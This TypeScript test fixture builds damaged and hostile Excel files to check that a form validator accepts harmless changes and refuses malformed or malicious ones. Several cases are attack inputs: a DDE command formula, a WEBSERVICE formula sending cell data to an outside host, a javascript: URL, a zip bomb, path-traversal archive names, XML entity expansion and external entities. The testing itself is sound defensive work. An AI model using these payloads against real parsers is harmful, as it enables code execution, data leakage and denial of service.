import { zipSync } from "fflate";

import type { SheetLayout } from "../../../../../src/workbook/sheetLayout.ts";
import {
  addressIn,
  answers,
  filledSheets,
  financeForm,
  formBytes,
  partOf,
  schoolForm,
  typedInto,
  withParts,
  withRows,
  withSheet,
  type Parts,
  type Typing,
} from "../../../../fixtures/returnedForms.ts";

/** A kind of damage: what happened to the form, and what is said of it; refused where `refused` names codes. */
export type Damage = {
  readonly what: string;
  readonly build: () => Uint8Array;
  readonly told?: readonly string[];
  readonly refused?: readonly string[];
  /** The form says something else than the undamaged one, as it should. */
  readonly says?: "other";
};

const typed = (...more: readonly Typing[]): Uint8Array => formBytes(typedInto(filledSheets, more));
const laid = (name: string, change: (sheet: SheetLayout) => SheetLayout): Uint8Array =>
  formBytes(withSheet(name, change));
const parts = (change: (parts: Parts) => void, level: 0 | 6 = 6): Uint8Array => withParts(formBytes(), change, level);
const edit = (name: string, from: string | RegExp, to: string): ((parts: Parts) => void) => {
  return (all) => {
    const before = all[name] ?? "";
    const after = before.replace(from, to);
    if (after === before) throw new RangeError(`${String(from)} in ${name}: got none, want one`);
    all[name] = after;
  };
};
const added =
  (name: string, content = "x") =>
  (all: Parts): void => {
    all[name] = content;
  };

const tasks = partOf("任务自评");
const criteria = partOf("指标自评");
const firstPoints = addressIn("指标自评", 0, "自评分");
const pointsCell = (content: string): ((all: Parts) => void) =>
  edit(criteria, new RegExp(`<c r="${firstPoints}" s="(\\d+)">.*?</c>`, "u"), content);

const swapped = (sheet: SheetLayout): SheetLayout => {
  const { table } = sheet;
  if (!table) return sheet;
  const turn = <T>(all: readonly T[]): readonly T[] => [
    ...all.slice(0, 5),
    ...[all[6], all[5]].flatMap((one) => (one === undefined ? [] : [one])),
    ...all.slice(7),
  ];
  return { ...sheet, table: { ...table, columns: turn(table.columns), rows: table.rows.map(turn) } };
};

const columnBefore = (sheet: SheetLayout): SheetLayout => {
  const { table } = sheet;
  if (!table) return sheet;
  const columns = [{ header: "备注", width: 10, kind: "text" as const }, ...table.columns];
  return { ...sheet, table: { ...table, columns, rows: table.rows.map((row) => ["本单位备注", ...row]) } };
};

/** The cells of sheets as other programs write them: texts shared, no addresses, parts by their absolute names. */
const asOthersWrite = (all: Parts): void => {
  const shared: string[] = [];
  for (const name of Object.keys(all).filter((one) => /^xl\/worksheets\/[^/]+\.xml$/u.test(one))) {
    all[name] = (all[name] ?? "")
      .replace(
        /<c r="[A-Z]+\d+" s="(\d+)" t="inlineStr"><is><t[^>]*>([^<]*)<\/t><\/is><\/c>/gu,
        (_, style: string, text: string) => {
          shared.push(text);
          return `<c s="${style}" t="s"><v>${shared.length - 1}</v></c>`;
        },
      )
      .replace(/<c r="[A-Z]+\d+"/gu, "<c");
  }
  all["xl/sharedStrings.xml"] =
    '<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' +
    shared
      .map((text) => `<si><r><t xml:space="preserve">${text}</t></r><rPh sb="0" eb="1"><t>du</t></rPh></si>`)
      .join("") +
    "</sst>";
  const rels = "xl/_rels/workbook.xml.rels";
  all[rels] = (all[rels] ?? "").replace(/Target="worksheets/gu, 'Target="/xl/worksheets');
};

/**
 * The file as WPS saves it: properties of its own in the place of ours, texts shared, markup of later versions and of its own in extension
 * lists, a hidden name for each filter, tables turned into plain cells.
 */
const asWpsSaves = (all: Parts): void => {
  asOthersWrite(all);
  all["docProps/custom.xml"] =
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">' +
    '<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="KSOProductBuildVer"><vt:lpwstr>2052-12.1.0.16929</vt:lpwstr></property>' +
    '<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="3" name="ICV"><vt:lpwstr>0123456789ABCDEF_13</vt:lpwstr></property></Properties>';
  for (const name of Object.keys(all)) {
    if (/^xl\/tables\/|^xl\/worksheets\/_rels\//u.test(name)) delete all[name];
    if (!/^xl\/worksheets\/[^/]+\.xml$/u.test(name)) continue;
    all[name] = (all[name] ?? "")
      .replace(/<tableParts.*?<\/tableParts>/u, "")
      .replace(
        "<worksheet ",
        '<worksheet xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:etc="http://www.wps.cn/officeDocument/2017/etCustomData" mc:Ignorable="etc" ',
      )
      .replace(
        "</worksheet>",
        '<extLst><ext uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}"><etc:cellProtectionEx/></ext></extLst></worksheet>',
      );
  }
  all["xl/workbook.xml"] = (all["xl/workbook.xml"] ?? "").replace(
    "<definedNames>",
    '<definedNames><definedName name="_xlnm._FilterDatabase" localSheetId="1" hidden="1">任务自评!$A$3:$I$5</definedName>',
  );
};

/** The file with its parts in UTF-16, as some converters leave them. */
const wide = (): Uint8Array => {
  const bytes: Record<string, Uint8Array> = {};
  withParts(formBytes(), (all) => {
    for (const [name, text] of Object.entries(all)) {
      const own = name.startsWith("xl/worksheets/sheet") ? utf16(text) : new TextEncoder().encode(text);
      bytes[name] = own;
    }
  });
  return zipSync(bytes);
};

const utf16 = (text: string): Uint8Array => {
  const units = `\uFEFF${text.replace('encoding="UTF-8"', 'encoding="UTF-16"')}`;
  const bytes = new Uint8Array(units.length * 2);
  const view = new DataView(bytes.buffer);
  for (let at = 0; at < units.length; at++) view.setUint16(at * 2, units.charCodeAt(at), true);
  return bytes;
};

/** The offset of each part's line in the directory. */
const directoryLines = (bytes: Uint8Array): readonly number[] => {
  const lines: number[] = [];
  const view = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength);
  for (let at = 0; at + 4 <= bytes.length; at++) if (view.getUint32(at, true) === 0x02014b50) lines.push(at);
  return lines;
};

const inDirectory = (change: (view: DataView, lines: readonly number[], bytes: Uint8Array) => void): Uint8Array => {
  const bytes = formBytes().slice();
  change(new DataView(bytes.buffer), directoryLines(bytes), bytes);
  return bytes;
};

const named = (bytes: Uint8Array, line: number, name: string): void => {
  bytes.set(
    new TextEncoder().encode(name).subarray(0, new DataView(bytes.buffer).getUint16(line + 28, true)),
    line + 46,
  );
};

/** A part that inflates to so many megabytes. */
const bomb = (megabytes: number): Uint8Array =>
  parts((all) => {
    all["xl/sharedStrings.xml"] = `<sst><si><t>${"A".repeat(megabytes * 1024 * 1024)}</t></si></sst>`;
  });

const ole = (content: string): Uint8Array => {
  const bytes = new Uint8Array(2048);
  bytes.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
  for (const [index, character] of [...content].entries()) bytes[1024 + 2 * index] = character.charCodeAt(0);
  return bytes;
};

const text = (content: string): Uint8Array => new TextEncoder().encode(content);

/** What people and programs do to a form that is taken all the same, with all that is said of it. */
export const accepted: readonly Damage[] = [
  { what: "nothing", build: () => formBytes(), told: [] },
  {
    what: "a sheet renamed",
    build: () => laid("任务自评", (sheet) => ({ ...sheet, name: "我局任务" })),
    told: ["sheet-renamed"],
  },
  { what: "two columns exchanged", build: () => laid("任务自评", swapped), told: ["columns-moved"] },
  { what: "a column put in before the others", build: () => laid("任务自评", columnBefore), told: [] },
  {
    what: "empty rows put in between",
    build: () =>
      laid(
        "任务自评",
        withRows((rows) => rows.flatMap((row) => [row, row.map(() => null)])),
      ),
    told: [],
  },
  {
    what: "lines put in above the table",
    build: () =>
      laid("任务自评", (sheet) => ({ ...sheet, lines: ["市教育局办公室填", ...sheet.lines, "联系人见封面"] })),
    told: [],
  },
  {
    what: "rows sorted the other way",
    build: () =>
      laid(
        "指标自评",
        withRows((rows) => [...rows].reverse()),
      ),
    told: [],
    says: "other",
  },
  { what: "sheets in another order", build: () => formBytes([...filledSheets].reverse()), told: [] },
  { what: "full-width digits", build: () => typed(["指标自评", 0, "自评分", "９．５"]), told: ["repaired-width"] },
  {
    what: "a number stored as text",
    build: () => typed(["指标自评", 0, "自评分", "9.5"]),
    told: ["repaired-text-number"],
  },
  { what: "a percentage as text", build: () => typed(["指标自评", 0, "自评分", "95%"]), told: ["repaired-percent"] },
  {
    what: "a percentage by its format",
    build: () =>
      parts((all) => {
        edit("xl/styles.xml", "</cellXfs>", '<xf numFmtId="10" fontId="0" fillId="0" borderId="0"/></cellXfs>')(all);
        const format = /<cellXfs count="(\d+)"/u.exec(all["xl/styles.xml"] ?? "")?.[1] ?? "";
        pointsCell(`<c r="${firstPoints}" s="${format}"><v>0.95</v></c>`)(all);
      }),
    told: ["repaired-percent"],
  },
  {
    what: "the word 分 behind a number",
    build: () => typed(["指标自评", 0, "自评分", "9.5分"]),
    told: ["repaired-points"],
  },
  {
    what: "spaces within a choice",
    build: () => typed(["任务自评", 0, "完成情况", "完 成"]),
    told: ["repaired-choice"],
  },
  { what: "spaces around an answer", build: () => typed(["任务自评", 0, "完成情况", " 完成\n"]), told: [] },
  {
    what: "a plus before a number",
    build: () => typed(["指标自评", 0, "自评分", "+9.5"]),
    told: ["repaired-text-number"],
  },
  { what: "a date as text", build: () => typed(["佐证材料", 0, "日期", "2026年3月5日"]), told: ["repaired-date"] },
  {
    what: "a date with dots and full-width digits",
    build: () => typed(["佐证材料", 0, "日期", "２０２６.３.５"]),
    told: ["repaired-date"],
  },
  { what: "a date without marks", build: () => typed(["佐证材料", 0, "日期", 20260305]), told: ["repaired-date"] },
  {
    what: "days counted from 1904",
    build: () =>
      parts((all) => {
        edit("xl/workbook.xml", "<workbookPr/>", '<workbookPr date1904="1"/>')(all);
        edit(partOf("佐证材料"), "<v>46086</v>", "<v>44624</v>")(all);
      }),
    told: ["dates-from-1904", "repaired-1904"],
  },
  {
    what: "a row hidden",
    build: () => parts(edit(tasks, '<row r="4"', '<row r="4" hidden="1"')),
    told: ["rows-hidden"],
  },
  {
    what: "a filter left on",
    build: () =>
      parts((all) => {
        edit(tasks, '<row r="4"', '<row r="4" hidden="1"')(all);
        edit(
          "xl/tables/table3.xml",
          /<autoFilter ref="([^"]+)"\/>/u,
          '<autoFilter ref="$1"><filterColumn colId="5"><filters><filter val="未完成"/></filters></filterColumn></autoFilter>',
        )(all);
      }),
    told: ["rows-hidden", "filter-left-on"],
  },
  {
    what: "accounts of two rows merged",
    build: () => parts(edit(tasks, "<mergeCells", '<mergeCells><mergeCell ref="G4:G5"/></mergeCells><mergeCells')),
    told: ["repaired-merged"],
    says: "other",
  },
  {
    what: "text in white",
    build: () =>
      parts((all) => {
        edit("xl/styles.xml", "</fonts>", '<font><color rgb="FFFFFFFF"/></font></fonts>')(all);
        edit("xl/styles.xml", "</cellXfs>", '<xf numFmtId="0" fontId="3" fillId="0" borderId="0"/></cellXfs>')(all);
        const format = /<cellXfs count="(\d+)"/u.exec(all["xl/styles.xml"] ?? "")?.[1] ?? "";
        edit(tasks, /<c r="G4" s="\d+"/u, `<c r="G4" s="${format}"`)(all);
      }),
    told: ["text-unseen"],
  },
  {
    what: "a hidden sheet put in",
    build: () =>
      formBytes([...filledSheets, { ...(filledSheets[0] as SheetLayout), name: "底稿", visibility: "veryHidden" }]),
    told: ["sheet-hidden"],
  },
  {
    what: "a sheet of notes put in",
    build: () =>
      formBytes([
        ...filledSheets,
        { name: "说明", visibility: "visible", title: "我局说明", lines: [], table: null, landscape: false },
      ]),
    told: ["sheet-extra"],
  },
  {
    what: "notes beside the table",
    build: () =>
      parts(edit(tasks, /(<row r="4".*?)<\/row>/u, '$1<c r="Z4" t="inlineStr"><is><t>复核过</t></is></c></row>')),
    told: [],
  },
  {
    what: "a line of totals below the table",
    build: () =>
      laid(
        "指标自评",
        withRows((rows) => [...rows, ["合计", null, null, 100, null, null, null]]),
      ),
    told: ["row-foreign"],
  },
  { what: "macros", build: () => parts(added("xl/vbaProject.bin")), told: ["content-dropped-macros"] },
  {
    what: "an embedded file",
    build: () => parts(added("xl/embeddings/oleObject1.bin")),
    told: ["content-dropped-embedded"],
  },
  {
    what: "a control",
    build: () => parts(added("xl/activeX/activeX1.xml", "<a/>")),
    told: ["content-dropped-controls"],
  },
  {
    what: "a data connection",
    build: () => parts(added("xl/connections.xml", "<connections/>")),
    told: ["content-dropped-connections"],
  },
  {
    what: "a link to another workbook",
    build: () => parts(added("xl/externalLinks/externalLink1.xml", "<externalLink/>")),
    told: ["content-dropped-links"],
  },
  {
    what: "a formula that fetches from outside",
    build: () =>
      parts(
        edit(
          tasks,
          /(<row r="4".*?)<\/row>/u,
          '$1<c r="Z4"><f>WEBSERVICE("http://example.cn/"&amp;G4)</f><v>0</v></c></row>',
        ),
      ),
    told: ["content-dropped-remote"],
  },
  {
    what: "a formula of the DDE kind",
    build: () =>
      parts(edit(tasks, /(<row r="4".*?)<\/row>/u, "$1<c r=\"Z4\"><f>cmd|'/C calc'!A0</f><v>0</v></c></row>")),
    told: ["content-dropped-remote"],
  },
  {
    what: "the hidden sheet lost",
    build: () => formBytes(filledSheets.filter(({ visibility }) => visibility === "visible")),
    told: ["identity-from-properties"],
  },
  { what: "the properties lost", build: () => formBytes(filledSheets, {}), told: [] },
  {
    what: "texts shared, cells without addresses, rich text with reading aids",
    build: () => parts(asOthersWrite),
    told: [],
  },
  { what: "all that WPS does when it saves", build: () => parts(asWpsSaves), told: [] },
  { what: "parts in UTF-16", build: wide, told: [] },
  { what: "parts that are stored, not packed", build: () => parts(() => undefined, 0), told: [] },
  {
    what: "evidence of another year",
    build: () => typed(["佐证材料", 0, "日期", "2025-12-30"]),
    told: ["material-out-of-year"],
    says: "other",
  },
  {
    what: "the same evidence twice",
    build: () =>
      typed(
        ...answers
          .filter(([sheet]) => sheet === "佐证材料")
          .map(([sheet, , header, value]): Typing => [sheet, 1, header, value]),
      ),
    told: ["material-repeated"],
    says: "other",
  },
  {
    what: "done without evidence",
    build: () =>
      typed(...["对应编号", "材料名称", "文号", "日期", "网址"].map((header): Typing => ["佐证材料", 0, header, null])),
    told: ["claim-without-evidence"],
    says: "other",
  },
  {
    what: "text that looks like a formula",
    build: () => typed(["任务自评", 0, "自评说明", "=HYPERLINK(1)"]),
    told: [],
    says: "other",
  },
];

/** What is refused, and as what. */
export const refusedForms: readonly Damage[] = [
  ...(["九十五", "约90", "2000万"] as const).map((got): Damage => ({
    what: `the words ${got}`,
    build: () => typed(["指标自评", 0, "自评分", got]),
    refused: ["number-asked-like"],
  })),
  { what: "words without a number", build: () => typed(["指标自评", 0, "自评分", "较好"]), refused: ["number-asked"] },
  {
    what: "a number with a remark",
    build: () => typed(["指标自评", 0, "自评分", "9.5（含加分0.5）"]),
    refused: ["number-asked"],
  },
  {
    what: "a formula for a value",
    build: () => typed(["指标自评", 0, "自评分", { formula: "9+0.5", value: 9.5 }]),
    refused: ["formula-for-value"],
  },
  {
    what: "a picture in a cell, as WPS puts them",
    build: () =>
      typed(["佐证材料", 0, "材料名称", { formula: '_xlfn.DISPIMG("ID_0123456789ABCDEF",1)', value: "=DISPIMG(1)" }]),
    refused: ["formula-for-value"],
  },
  ...(["9", "9,999", "9%", "9分", " ", "约", "-", "."] as const).map((piece): Damage => ({
    what: `thirty thousand characters of “${piece}” for a number`,
    build: () => typed(["指标自评", 0, "自评分", `${piece.repeat(30_000 / piece.length)}x`.slice(0, 32_767)]),
    refused: ["number-asked"],
  })),
  {
    what: "an error for a value",
    build: () => typed(["指标自评", 0, "自评分", "#DIV/0!"]),
    refused: ["cell-is-error"],
  },
  { what: "points below 0", build: () => typed(["指标自评", 0, "自评分", -1]), refused: ["self-score-outside"] },
  {
    what: "points above the criterion's",
    build: () => typed(["指标自评", 0, "自评分", 10.5]),
    refused: ["self-score-outside"],
  },
  { what: "an answer left out", build: () => typed(["任务自评", 0, "完成情况", null]), refused: ["state-missing"] },
  { what: "points left out", build: () => typed(["指标自评", 0, "自评分", null]), refused: ["self-score-missing"] },
  {
    what: "an answer of their own",
    build: () => typed(["任务自评", 0, "完成情况", "快好了"]),
    refused: ["state-unknown"],
  },
  {
    what: "不适用 without a reason",
    build: () => typed(["任务自评", 0, "完成情况", "不适用"], ["任务自评", 0, "自评说明", null]),
    refused: ["claim-without-reason"],
  },
  {
    what: "an account longer than a cell should hold",
    build: () => typed(["任务自评", 0, "自评说明", "长".repeat(2001)]),
    refused: ["text-too-long"],
  },
  { what: "a date that is none", build: () => typed(["佐证材料", 0, "日期", "去年底"]), refused: ["date-asked"] },
  {
    what: "a date that no calendar has",
    build: () => typed(["佐证材料", 0, "日期", "2026-02-30"]),
    refused: ["date-asked"],
  },
  {
    what: "evidence for nothing",
    build: () => typed(["佐证材料", 0, "对应编号", "九/（九）"]),
    refused: ["material-about-nothing"],
  },
  {
    what: "an address that runs a program",
    build: () => typed(["佐证材料", 0, "网址", "javascript:alert(1)"]),
    refused: ["material-address-unfit"],
  },
  {
    what: "a row deleted",
    build: () =>
      laid(
        "任务自评",
        withRows((rows) => rows.slice(1)),
      ),
    refused: ["rows-absent"],
  },
  {
    what: "a number changed",
    build: () => typed(["任务自评", 0, "编号", "九/（九）"]),
    refused: ["row-unknown", "rows-absent"],
  },
  {
    what: "a number emptied",
    build: () => typed(["任务自评", 0, "编号", null]),
    refused: ["row-without-key", "rows-absent"],
  },
  {
    what: "a row copied",
    build: () =>
      laid(
        "任务自评",
        withRows((rows) => [...rows, ...rows.slice(0, 1)]),
      ),
    refused: ["row-repeated"],
  },
  { what: "a header emptied", build: () => parts(edit(tasks, ">完成情况<", "><")), refused: ["header-missing"] },
  { what: "a header twice", build: () => parts(edit(tasks, ">工作要求<", ">完成情况<")), refused: ["header-repeated"] },
  {
    what: "a sheet deleted",
    build: () => formBytes(filledSheets.filter(({ name }) => name !== "任务自评")),
    refused: ["table-missing"],
  },
  {
    what: "no identity at all",
    build: () =>
      formBytes(
        filledSheets.filter(({ visibility }) => visibility === "visible"),
        {},
      ),
    refused: ["book-unknown"],
  },
  {
    what: "another unit's properties",
    build: () => formBytes(filledSheets, financeForm.properties),
    refused: ["identity-differs"],
  },
  {
    what: "another unit's hidden sheet",
    build: () =>
      formBytes(
        [...filledSheets.filter(({ visibility }) => visibility === "visible"), ...financeForm.sheets.slice(-1)],
        {},
      ),
    refused: ["row-unknown"],
  },
  {
    what: "two hidden sheets",
    build: () =>
      parts((all) => {
        edit(
          "xl/workbook.xml",
          "</sheets>",
          '<sheet name="_kaoping" sheetId="99" state="hidden" r:id="rId1"/></sheets>',
        )(all);
      }),
    refused: ["identity-repeated"],
  },
  {
    what: "a digest of the layout that was changed",
    build: () =>
      formBytes(
        filledSheets.filter(({ visibility }) => visibility === "visible"),
        { ...schoolForm.properties, layout: "0".repeat(16) },
      ),
    refused: ["form-altered"],
  },
  {
    what: "the form of another year",
    build: () =>
      formBytes(
        filledSheets.filter(({ visibility }) => visibility === "visible"),
        { ...schoolForm.properties, year: "2025" },
      ),
    refused: ["form-other-year"],
  },
  {
    what: "a form that nobody sent",
    build: () =>
      formBytes(
        filledSheets.filter(({ visibility }) => visibility === "visible"),
        { ...schoolForm.properties, form: "0".repeat(16) },
      ),
    refused: ["form-unknown"],
  },
  {
    what: "a form of an older make",
    build: () => parts(edit(`xl/worksheets/sheet${filledSheets.length}.xml`, "kaoping-form/2", "kaoping-form/1")),
    refused: ["form-older-kind"],
  },
  { what: "nothing in the file", build: () => new Uint8Array(0), refused: ["file-empty"] },
  { what: "an old .xls under another name", build: () => ole("Workbook"), refused: ["book-not-xlsx"] },
  { what: "a workbook with a password", build: () => ole("EncryptedPackage"), refused: ["book-encrypted"] },
  {
    what: "a web page under another name",
    build: () => text("<html><table><tr><td>1</td></tr></table></html>"),
    refused: ["book-not-xlsx"],
  },
  { what: "a CSV file under another name", build: () => text("编号,完成情况\n一,完成\n"), refused: ["book-not-xlsx"] },
  { what: "the file cut off", build: () => formBytes().subarray(0, 4000), refused: ["book-damaged"] },
  {
    what: "a part damaged",
    build: () => {
      const bytes = formBytes().slice();
      bytes.fill(0xff, 400, 460);
      return bytes;
    },
    refused: ["book-damaged"],
  },
  { what: "a zip bomb", build: () => bomb(60), refused: ["file-too-large"] },
  {
    what: "a part that holds more than it states",
    build: () =>
      inDirectory((view, lines) => {
        for (const line of lines) view.setUint32(line + 24, 10, true);
      }),
    refused: ["book-damaged"],
  },
  {
    what: "a part listed twice",
    build: () =>
      inDirectory((view, [first = 0, second = 0], bytes) => {
        view.setUint16(
          second + 28,
          Math.min(view.getUint16(first + 28, true), view.getUint16(second + 28, true)),
          true,
        );
        named(bytes, second, "x");
        named(bytes, first, "X");
      }),
    refused: ["book-damaged"],
  },
  {
    what: "parts that overlap",
    build: () =>
      inDirectory((view, [first = 0, second = 0]) =>
        view.setUint32(second + 42, view.getUint32(first + 42, true) + 1, true),
      ),
    refused: ["book-damaged"],
  },
  {
    what: "a name that climbs out of the archive",
    build: () => parts(added("../../etc/passwd")),
    refused: ["book-damaged"],
  },
  { what: "an absolute name", build: () => parts(added("/etc/passwd")), refused: ["book-damaged"] },
  { what: "a name with a drive", build: () => parts(added("C:\\run.exe")), refused: ["book-damaged"] },
  {
    what: "a name that is cut short by NUL",
    build: () => inDirectory((_, [line = 0], bytes) => named(bytes, line, "a\u0000")),
    refused: ["book-damaged"],
  },
  {
    what: "a symbolic link",
    build: () =>
      inDirectory((view, [line = 0]) => {
        view.setUint8(line + 5, 3);
        view.setUint32(line + 38, 0xa1ff0000, true);
      }),
    refused: ["book-damaged"],
  },
  {
    what: "a document type",
    build: () => parts(edit(tasks, "<worksheet", "<!DOCTYPE worksheet><worksheet")),
    refused: ["book-damaged"],
  },
  {
    what: "entities that grow",
    build: () =>
      parts(edit(tasks, "<worksheet", '<!DOCTYPE a [<!ENTITY b "bbbbbbbbbb"><!ENTITY c "&b;&b;&b;&b;">]><worksheet')),
    refused: ["book-damaged"],
  },
  {
    what: "an entity from outside",
    build: () => parts(edit(tasks, ">任务自评<", ">&file;<")),
    refused: ["book-damaged"],
  },
  {
    what: "an encoding that hides tags",
    build: () => parts(edit(tasks, 'encoding="UTF-8"', 'encoding="UTF-7"')),
    refused: ["book-damaged"],
  },
  { what: "XML that is not closed", build: () => parts(edit(tasks, "</worksheet>", "")), refused: ["book-damaged"] },
  {
    what: "a cell beyond all columns",
    build: () => parts(edit(tasks, '<c r="G4"', '<c r="ZZZ4"')),
    refused: ["book-damaged"],
  },
  {
    what: "a cell a million rows below",
    build: () => parts(edit(tasks, '<c r="G4"', '<c r="G1048577"')),
    refused: ["book-damaged"],
  },
  {
    what: "a sheet that is nearly all empty",
    build: () =>
      parts((all) => {
        all[tasks] =
          `<worksheet><sheetData>${Array.from({ length: 200 }, (_, row) => `<row r="${row + 1}"><c r="XFD${row + 1}"><v>1</v></c></row>`).join("")}</sheetData></worksheet>`;
      }),
    refused: ["book-damaged"],
  },
  {
    what: "more sheets than any form",
    build: () =>
      parts(
        edit("xl/workbook.xml", "</sheets>", `${'<sheet name="a" sheetId="9" r:id="rId1"/>'.repeat(300)}</sheets>`),
      ),
    refused: ["book-damaged"],
  },
  {
    what: "no workbook part",
    build: () =>
      parts((all) => {
        delete all["xl/workbook.xml"];
      }),
    refused: ["book-not-xlsx"],
  },
];
